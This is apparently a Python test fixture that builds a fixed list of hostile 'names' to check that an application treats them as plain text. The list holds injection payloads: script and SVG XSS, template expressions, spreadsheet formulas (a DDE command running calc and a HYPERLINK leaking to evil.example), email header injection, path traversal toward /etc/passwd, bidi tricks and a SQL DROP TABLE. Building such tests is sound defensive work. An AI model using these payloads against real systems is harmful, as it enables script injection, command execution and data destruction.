"""Names that try to be more than a name: markup, formulas, headers, paths, direction, mathtext.

`malicious_names(500)` is the same list in every run. Each name holds a mark (`marker(n)`), so that a
test can tell that a name is there as text, and not what it tried to be.
"""

import random

# What runs, loads or sends if it is taken for more than text; {m} is the name's mark.
_TRICKS = (
    # HTML, in and out of attributes, comments, styles and the page's own marks
    "<script>document.title='owned {m}'</script>",
    "</script><script>owned('{m}')</script>",
    "<img src=x onerror=\"document.title='owned {m}'\">",
    "\"><svg onload=document.title='owned{m}'>",
    "' onmouseover='owned({m})",
    "</title></style></caption></table><h1>{m}</h1>",
    "--><b>{m}</b><!--",
    "<!-- restated -->{m}<!-- /restated -->",
    "<!-- neighbours -->{m}<!-- /neighbours -->",
    "]]>{m}<![CDATA[",
    "&lt;b&gt;{m}&amp;&#60;i&#62;",
    '<a href="javascript:owned({m})">{m}</a>',
    "<style>*{{display:none}}</style>{m}",
    "<mj-raw><script>{m}</script></mj-raw>",
    # templates
    "{{{{ 7 * 7 }}}} {m}",
    "{{% raw %}}{m}",
    "${{7*7}} {m}",
    "%(owned)s %s %n {m}",
    "{{0.__class__}} {m}",
    # formulas of spreadsheets
    '=HYPERLINK("http://evil.example/?{m}","{m}")',
    "=cmd|'/C calc'!A0 {m}",
    "+1+{m}",
    "-2+3*cmd {m}",
    "@SUM(1+1)*{m}",
    "\t=1+{m}",
    "\r=1+{m}",
    "\uff1d1+{m}",
    # headers and lines
    "{m}\r\nBcc: victim@evil.example",
    "{m}\nSubject: owned",
    "{m}\r\n\r\n<b>body</b>",
    "{m}\u2028Bcc: victim@evil.example",
    "{m}\u0085X-Owned: yes",
    "=?utf-8?q?owned_{m}?=",
    "{m}\r\n.\r\nMAIL FROM:<evil@evil.example>",
    # paths
    "../../../../tmp/owned-{m}",
    "..\\..\\owned-{m}",
    "/etc/passwd {m}",
    "C:\\Windows\\{m}",
    "CON {m}",
    "{m}/../../x",
    "~root/{m}",
    ".{m}",
    # direction, invisible and broken characters
    "\u202e{m}gnp.exe",
    "\u2066{m}\u2069",
    "{m}\u200b\u200d\ufeff\u00ad",
    "nul\x00{m}",
    "\x07\x08\x1b[31m{m}",
    "\x7f\x9b{m}",
    "שלום עולם {m}",
    "مرحبا {m}",
    "日本語の学部 {m}",
    "e\u0301\u0327\u0338 {m}",
    "\U0001f600\u2603 {m}",
    "\ufffe\uffff{m}",
    # mathtext, which raises or draws something else
    "$\\frac{{1}}{{{m}$",
    "$x^2$ {m}",
    "$ {m} $",
    "\\$ {m} $",
    "a_b^c {m} \\alpha",
    "_{m}",
    "_nolegend_{m}",
    "$$$${m}",
    # SQL
    "'; DROP TABLE enrollment.enrollment_metrics; -- {m}",
    '" OR 1=1 -- {m}',
    # size and emptiness
    "{m} " + "long " * 60,
    "x" * 300 + "{m}",
    "{m}   spaces   inside",
)


def marker(number: int) -> str:
    """The mark that the name of this number holds."""
    return f"mark{number:04d}"


def malicious_names(how_many: int = 500, seed: int = 20261125) -> list[str]:
    """Names, each different: every trick as it is, then two or three of them behind each other."""
    random_source = random.Random(seed)
    names = []
    for number in range(how_many):
        if number < len(_TRICKS):
            tricks: list[str] = [_TRICKS[number]]
        else:
            tricks = random_source.sample(_TRICKS, random_source.choice((2, 2, 3)))
        names.append(" ".join(trick.format(m=marker(number)) for trick in tricks))
    return names
